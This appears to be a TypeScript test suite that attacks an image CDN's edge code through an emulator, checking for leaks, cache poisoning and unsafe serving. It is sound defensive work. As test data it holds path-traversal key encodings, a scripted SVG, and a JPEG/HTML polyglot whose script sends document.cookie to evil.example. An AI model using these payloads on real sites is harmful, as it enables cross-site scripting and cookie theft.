/**
 * Bad input at the edge, over real HTTP: the local stack's parts in-process
 * (dynalite, s3rver, one CloudFront emulator per guarded variant running the
 * deployed edge code), every DynamoDB call counted by a proxy. For each of
 * required+origin, required+redirect, secured+origin and secured+redirect:
 *
 * - the hostile corpus (corpus.ts, fixtures/hostile/paths.txt): no 5xx, no
 *   read for a malformed path, the image only for its hash URL, nothing
 *   given away (bucket, key, table, S3 endpoint or headers, a Location);
 * - every name trick answers byte for byte alike whether or not something
 *   exists behind the name, and a revoked hash like one never issued;
 * - generated hostile requests (fast-check), under the same rules;
 * - the cache is never poisoned: afterwards the hash URL still gets exactly
 *   its image, and no other cache key holds it.
 *
 * Threats: SECURITY.md, "Anyone with the CDN's address".
 */
import { expect } from "chai";
import { DeleteObjectCommand, PutObjectCommand } from "@aws-sdk/client-s3";
import * as fc from "fast-check";
import sharp from "sharp";
import { checkerPng } from "../../local/png";
import { encodeObjectKey } from "../../edge/endpoints";
import { CdnWorld, guardedPlans, startCdnWorld } from "../reliability/support/cdn-world";
import { captureEdgeLogs, EdgeLogCapture } from "../support/edge-logs";
import { headerOf, RawRequest, sendRaw } from "../reliability/support/raw-http";
import { Expectation, hostileCorpus } from "./edge/corpus";
import { generatedRequests } from "./edge/generated";
import { ImageIssuer } from "../../issuer/issuer";
import { RefusedContentError } from "../../issuer/errors";
import { rejection } from "../support/rejection";
import { answerProblem, effectivePath, judge, leaks, mayRead, normalized } from "./edge/oracle";
import { prepareService, quietIssuer, randomHex32, ServiceUnderAttack, testImage } from "./edge/service-under-attack";
import { independentPresignSignature } from "../support/sigv4-oracle";

const SERVICES = guardedPlans().map((plan) => plan.name);

describe("edge over HTTP: hostile requests through the CloudFront emulator", function () {
    this.timeout(240_000);
    let world: CdnWorld;
    let logs: EdgeLogCapture;
    const image = testImage();
    const targets = new Map<string, ServiceUnderAttack>();

    before(async () => {
        logs = captureEdgeLogs({ keep: false });
        world = await startCdnWorld(guardedPlans());
        for (const service of world.services) targets.set(service.name, await prepareService(world, service, image));
    });
    after(async () => {
        await world?.close();
        logs?.restore();
    });

    function target(name: string): ServiceUnderAttack {
        const found = targets.get(name);
        if (!found) throw new Error(`${name} was not prepared`);
        return found;
    }

    /** Sends each request and collects every rule it breaks. */
    async function attack(under: ServiceUnderAttack, cases: { name: string; request: RawRequest; expect: Expectation }[]): Promise<string[]> {
        const problems: string[] = [];
        for (const hostile of cases) {
            const { response, reads } = await under.send(hostile.request);
            const found = judge(hostile.request, hostile.expect, response, under.facts);
            if (reads > 0 && !mayRead(hostile.request)) found.push(`cost ${reads} DynamoDB read(s) for a malformed request`);
            for (const problem of found) problems.push(`${hostile.name} [${hostile.request.method} ${String(hostile.request.target).slice(0, 90)}]: ${problem}`);
        }
        return problems;
    }

    for (const name of SERVICES) {
        describe(name, () => {
            it("every name trick answers byte for byte alike whether or not an object exists behind the name", async () => {
                const under = target(name);
                const real = hostileCorpus(under.real);
                const shadow = hostileCorpus(under.shadow);
                expect(shadow.map((c) => c.category)).to.deep.equal(real.map((c) => c.category));
                const differences: string[] = [];
                const sent = new Set<string>();
                let compared = 0;
                for (let i = 0; i < real.length; i++) {
                    const [a, b] = [real[i], shadow[i]];
                    const [ta, tb] = [Buffer.from(a.request.target).toString("latin1"), Buffer.from(b.request.target).toString("latin1")];
                    // Only refusals whose target carries the name differ between the two; a target
                    // sent before (a duplicate for this hash) would meet a cached answer on one side only.
                    if (a.expect !== "refuse" || ta === tb || sent.has(ta) || sent.has(tb)) continue;
                    sent.add(ta).add(tb);
                    const [ra, rb] = [await under.send(a.request), await under.send(b.request)];
                    compared += 1;
                    if (normalized(ra.response) !== normalized(rb.response)) differences.push(`${a.name}:\n${normalized(ra.response)}\n---\n${normalized(rb.response)}`);
                }
                expect(compared).to.be.at.least(100);
                expect(differences.slice(0, 3).join("\n\n")).to.equal("");
            });

            it("the hostile corpus (≥ 200 requests): no 5xx, no read for a malformed path, the image only for its hash URL, nothing given away", async () => {
                const under = target(name);
                const corpus = hostileCorpus(under.real);
                expect(corpus.length).to.be.at.least(200);
                const readsBefore = world.edgeReads();
                expect(await attack(under, corpus)).to.deep.equal([]);
                // The corpus did reach the edge: the hash URL and the missing hash were looked up.
                expect(world.edgeReads() - readsBefore).to.be.greaterThan(0);
                expect(world.faults).to.deep.equal([]);
            });

            it("a revoked hash answers exactly like a hash never issued", async () => {
                const under = target(name);
                const revoked = await quietIssuer(under.service).upload(image);
                await under.service.local.issuer.revoke(revoked.hash ?? "");
                const [a, b] = [await under.send({ method: "GET", target: `/images/${revoked.hash}` }), await under.send({ method: "GET", target: `/images/${randomHex32()}` })];
                expect(a.response.status).to.equal(404);
                expect(normalized(a.response)).to.equal(normalized(b.response));
            });

            it("an unknown hash (GET or HEAD, with or without a query) gets a bare 404: no Location, nothing about the bucket, key or table", async () => {
                const under = target(name);
                for (const request of [
                    { method: "GET", target: `/images/${randomHex32()}` },
                    { method: "HEAD", target: `/images/${randomHex32()}` },
                    { method: "GET", target: `/images/${randomHex32()}?X-Amz-Expires=604800&response-content-type=text%2Fhtml` },
                ]) {
                    const { response } = await under.send(request);
                    expect(response.status, request.target).to.equal(404);
                    expect(headerOf(response, "location"), request.target).to.equal(undefined);
                    expect(leaks(response, under.facts), request.target).to.deep.equal([]);
                }
            });

            it("an expired hash gets a bare 403: no Location, no bucket, key or table, no S3 headers", async () => {
                const under = target(name);
                const { config, clients } = under.service.local;
                const monthAgo = Date.now() - (config.hashTtlSeconds + 3600) * 1000;
                const expired = await new ImageIssuer(config, clients, { now: () => monthAgo }).upload(image);
                const { response } = await under.send({ method: "GET", target: `/images/${expired.hash}` });
                expect(response.status).to.equal(403);
                expect(leaks(response, { ...under.facts, key: expired.s3Url.slice(`s3://${under.facts.bucket}/`.length) })).to.deep.equal([]);
            });

            it("generated hostile requests follow the same rules", async () => {
                const under = target(name);
                let served = 0;
                await fc.assert(
                    fc.asyncProperty(generatedRequests(under.real.hash), async (generated) => {
                        const problems = await attack(under, [{ name: "generated", ...generated }]);
                        expect(problems).to.deep.equal([]);
                        if (generated.expect === "serve") served += 1;
                    }),
                    { numRuns: 120 },
                );
                // Both sides of the rule were exercised.
                expect(served).to.be.greaterThan(0);
            });

            it("the cache is not poisoned: the hash URL still gets exactly its image, and no other requested path holds it", async () => {
                const under = target(name);
                const plain = await under.send({ method: "GET", target: `/images/${under.real.hash}` });
                expect(answerProblem(plain.response, "GET", under.facts)).to.equal(undefined);
                if (under.facts.mode === "origin") expect(plain.response.body).to.deep.equal(image);

                const cache = under.service.cdn.distribution.cache;
                const now = Date.now();
                // Where the image may legitimately be cached: its hash URL (required) or its rewritten key (secured + origin).
                const allowed = new Set([`/images/${under.real.hash}`, `/${encodeObjectKey(under.facts.key)}`]);
                const cached = cache.lookup(`/images/${under.real.hash}`, now);
                if (cached.state !== "absent") expect(cached.entry.response.status, "the hash URL's cached answer").to.be.oneOf([200, 302]);
                const poisoned: string[] = [];
                for (const hostile of hostileCorpus(under.real)) {
                    const key = effectivePath(hostile.request.target);
                    if (allowed.has(key)) continue;
                    const found = cache.lookup(key, now);
                    if (found.state !== "absent" && found.entry.response.status < 400) poisoned.push(`${key}: ${found.entry.response.status}`);
                }
                expect(poisoned).to.deep.equal([]);
            });
        });
    }
    describe("redirect mode over HTTP: each method gets a URL signed for it, and S3 is told how to answer", () => {
        for (const name of ["chat", "regulatory-redirect"]) {
            it(`${name}: GET, then HEAD of the same hash URL; each followed with its own method gets the object from S3`, async () => {
                const under = target(name);
                const hashUrl = `/images/${under.real.hash}`;
                const get = await sendRaw(under.service.port, { method: "GET", target: hashUrl });
                const head = await sendRaw(under.service.port, { method: "HEAD", target: hashUrl });
                expect([get.status, head.status]).to.deep.equal([302, 302]);
                // Not a 302 CloudFront kept for the GET: the edge answered the HEAD itself.
                expect(headerOf(head, "x-cache")).to.equal("LambdaGeneratedResponse from cloudfront");
                const [getUrl, headUrl] = [new URL(headerOf(get, "location") ?? ""), new URL(headerOf(head, "location") ?? "")];
                const oracle = (method: string, url: URL) => independentPresignSignature({ method, url, secretAccessKey: under.facts.secretAccessKey });
                expect(getUrl.searchParams.get("X-Amz-Signature")).to.equal(oracle("GET", getUrl));
                expect(headUrl.searchParams.get("X-Amz-Signature")).to.equal(oracle("HEAD", headUrl));
                const followedHead = await fetch(headUrl, { method: "HEAD" });
                expect(followedHead.status).to.equal(200);
                expect(followedHead.headers.get("content-length")).to.equal(String(image.length));
                const followedGet = await fetch(getUrl);
                expect(followedGet.status).to.equal(200);
                expect(Buffer.from(await followedGet.arrayBuffer()).equals(image)).to.equal(true);
                // S3 cannot add nosniff or a CSP; what it is told to send instead, in signed parameters:
                expect(followedGet.headers.get("content-type")).to.equal("image/png");
                expect(followedGet.headers.get("content-disposition")).to.equal("attachment");
                expect(followedGet.headers.get("cache-control")).to.equal(`private, max-age=${getUrl.searchParams.get("X-Amz-Expires")}`);
                expect(followedGet.headers.get("x-content-type-options"), "S3 never sends it: SECURITY.md says so").to.equal(null);
            });
        }
    });

    describe("object keys and content, end to end", () => {
        /** Keys that some layer could decode or normalise into `secret.png`; S3 keys are literal, so each must stay its own object. */
        const TRICKY_KEYS = [
            "uploads/%2e%2e/secret.png",
            "uploads/%2E%2E%2Fsecret.png",
            "uploads/..%2fsecret.png",
            "uploads/%252e%252e%252fsecret.png",
            "uploads/\\..\\secret.png",
            "uploads/..;/secret.png",
            "uploads/x/..%5csecret.png",
            "uploads/%c0%ae%c0%ae/secret.png",
        ];

        for (const name of ["discussion", "chat", "regulatory"]) {
            it(`${name}: keys that look like traversal stay literal from the issuer to S3; a browser following the answer gets that object, never secret.png`, async () => {
                const under = target(name);
                const { issuer, clients } = under.service.local;
                const secret = checkerPng({ width: 4, height: 4, square: 1, colors: [[0, 0, 0], [0, 0, 0]] });
                await clients.s3.send(new PutObjectCommand({ Bucket: under.facts.bucket, Key: "secret.png", Body: secret, ContentType: "image/png" }));
                await clients.s3.send(new PutObjectCommand({ Bucket: under.facts.bucket, Key: "uploads/secret.png", Body: secret, ContentType: "image/png" }));
                const wrong: string[] = [];
                for (const [i, key] of TRICKY_KEYS.entries()) {
                    const own = checkerPng({ width: 4, height: 4, square: 1, colors: [[i * 20, 100, 200], [255, 255, 255]] });
                    const uploaded = await issuer.upload(own, { s3Key: key });
                    expect(uploaded.s3Url).to.equal(`s3://${under.facts.bucket}/${key}`);
                    // What a browser does: fetch (WHATWG URL rules) and follow redirects.
                    const response = await fetch(`http://127.0.0.1:${under.service.port}/images/${uploaded.hash}`);
                    const body = Buffer.from(await response.arrayBuffer());
                    if (response.status !== 200 || !body.equals(own)) wrong.push(`${key}: ${response.status}${body.equals(secret) ? " (secret.png!)" : ""}`);
                }
                expect(wrong).to.deep.equal([]);
            });
        }

        // Origin mode, both levels (secured runs an origin-response step for this): S3's own error never reaches the viewer.
        for (const name of ["discussion", "regulatory"]) {
            it(`${name}: an object deleted behind a live hash gets the generic 404 of an unknown hash, never S3's error naming the key, kept no longer than the 404 TTL`, async () => {
                const under = target(name);
                const uploaded = await under.service.local.issuer.upload(checkerPng({ width: 4, height: 4, square: 2, colors: [[9, 9, 9], [99, 99, 99]] }));
                const key = uploaded.s3Url.slice(`s3://${under.facts.bucket}/`.length);
                await under.service.local.clients.s3.send(new DeleteObjectCommand({ Bucket: under.facts.bucket, Key: key }));
                const { response } = await under.send({ method: "GET", target: `/images/${uploaded.hash}` });
                expect(response.status).to.equal(404);
                expect(response.body.toString()).to.equal("Not Found\n");
                expect(leaks(response, { ...under.facts, key })).to.deep.equal([]);
                // The very answer a hash never issued gets (its Cache-Control included: max-age = the 404 TTL).
                const unknown = await under.send({ method: "GET", target: `/images/${randomHex32()}` });
                const comparable = (raw: typeof response) => normalized(raw).split("\n").filter((line) => !/^x-cache:/i.test(line)).join("\n");
                expect(comparable(response)).to.equal(comparable(unknown.response));
                // CloudFront keeps it no longer than the 404 TTL (under the hash URL, or under the rewritten key for secured).
                const ttlMs = under.service.plan.settings.notFoundTtlSeconds * 1000;
                const cacheKey = name === "regulatory" ? `/${encodeObjectKey(key)}` : `/images/${uploaded.hash}`;
                const cache = under.service.cdn.distribution.cache;
                const now = Date.now();
                const kept = cache.lookup(cacheKey, now);
                expect(kept.state === "fresh" ? kept.entry.response.status : kept.state, "the 404 is kept for a while").to.equal(404);
                expect(cache.lookup(cacheKey, now + ttlMs + 1000).state, "and gone after the 404 TTL").to.not.equal("fresh");
            });
        }

        // Every level and mode: a key of S3's full 1,024 bytes (the local S3 once crashed on a 256-byte segment).
        for (const name of SERVICES) {
            it(`${name}: an image stored under a 1,024-byte key is served through its hash URL`, async () => {
                const under = target(name);
                const picture = checkerPng({ width: 5, height: 5, square: 1, colors: [[7, 7, 7], [70, 70, 70]] });
                for (const key of ["uploads/" + "l".repeat(1016), "uploads/" + "é".repeat(508)]) {
                    expect(Buffer.byteLength(key)).to.equal(1024);
                    const uploaded = await under.service.local.issuer.upload(picture, { s3Key: key });
                    const response = await sendRaw(under.service.port, { method: "GET", target: `/images/${uploaded.hash}` });
                    const bytes = response.status === 302 ? Buffer.from(await (await fetch(headerOf(response, "location") ?? "")).arrayBuffer()) : response.body;
                    expect(bytes.equals(picture), `${name} ${key.slice(0, 12)}…`).to.equal(true);
                }
            });
        }

        // Every level and mode: the hash keeps serving the bytes confirmUpload judged, whatever the form posts later.
        for (const name of SERVICES) {
            it(`${name}: an SVG posted through the still-valid upload form after confirmUpload never reaches the hash URL`, async () => {
                const under = target(name);
                const issuer = under.service.local.issuer;
                const first = checkerPng({ width: 6, height: 6, square: 3, colors: [[1, 2, 3], [250, 250, 250]] });
                const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>');
                const form = await issuer.createUploadForm({ contentType: "image/png" });
                const post = async (bytes: Buffer) => {
                    const body = new FormData();
                    for (const [field, value] of Object.entries(form.fields)) body.append(field, value);
                    body.append("file", new Blob([bytes], { type: "image/png" }), "upload.png");
                    return (await fetch(form.url, { method: "POST", body })).status;
                };
                expect(await post(first)).to.equal(204);
                const confirmed = await issuer.confirmUpload(form.s3Url);
                expect(await post(svg), "the form is still valid, so S3 takes the second post").to.equal(204);

                const fetched = async (): Promise<Buffer> => {
                    const response = await sendRaw(under.service.port, { method: "GET", target: `/images/${confirmed.hash}` });
                    if (response.status !== 302) return response.body;
                    return Buffer.from(await (await fetch(headerOf(response, "location") ?? "")).arrayBuffer());
                };
                expect((await fetched()).equals(first)).to.equal(true);
                // Again, past any cache of the first answer: the bytes behind the hash are still the checked ones.
                under.service.cdn.distribution.invalidate(["/*"]);
                expect((await fetched()).equals(first)).to.equal(true);
            });
        }

        for (const name of ["discussion", "regulatory"]) {
            it(`${name}: a JPEG/HTML polyglot is refused unless it is a real JPEG, whose HTML (in a comment) is removed; served only as image/jpeg with nosniff and a sandboxing CSP`, async () => {
                const under = target(name);
                const page = Buffer.from("<html><body><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>");
                // A JPEG signature with a page behind it is no image: refused, nothing stored.
                const bare = Buffer.concat([Buffer.from("ffd8ffe000104a46494600010100000100010000", "hex"), page]);
                await rejection(under.service.local.issuer.upload(bare), RefusedContentError);
                // A real JPEG carrying the page in a comment segment: accepted, and the comment goes with the metadata.
                const jpeg = await sharp(checkerPng({ width: 8, height: 8, square: 2, colors: [[200, 0, 0], [0, 0, 200]] })).jpeg().toBuffer();
                const comment = Buffer.concat([Buffer.from([0xff, 0xfe, (page.length + 2) >> 8, (page.length + 2) & 0xff]), page]);
                const polyglot = Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)]);
                const uploaded = await under.service.local.issuer.upload(polyglot);
                expect(uploaded.metadata.removed).to.deep.equal(["comment"]);
                expect(uploaded.contentType).to.equal("image/jpeg");
                const response = await sendRaw(under.service.port, { method: "GET", target: `/images/${uploaded.hash}` });
                expect(response.status).to.equal(200);
                expect(headerOf(response, "content-type")).to.equal("image/jpeg");
                expect(headerOf(response, "x-content-type-options")).to.equal("nosniff");
                const csp = headerOf(response, "content-security-policy") ?? "";
                expect(csp).to.include("sandbox").and.include("default-src 'none'");
                expect(csp).to.not.include("script-src");
                expect(response.body.includes("<script"), "the page is not in what is served").to.equal(false);
                expect(response.body.equals(jpeg)).to.equal(true);
            });
        }
    });
});
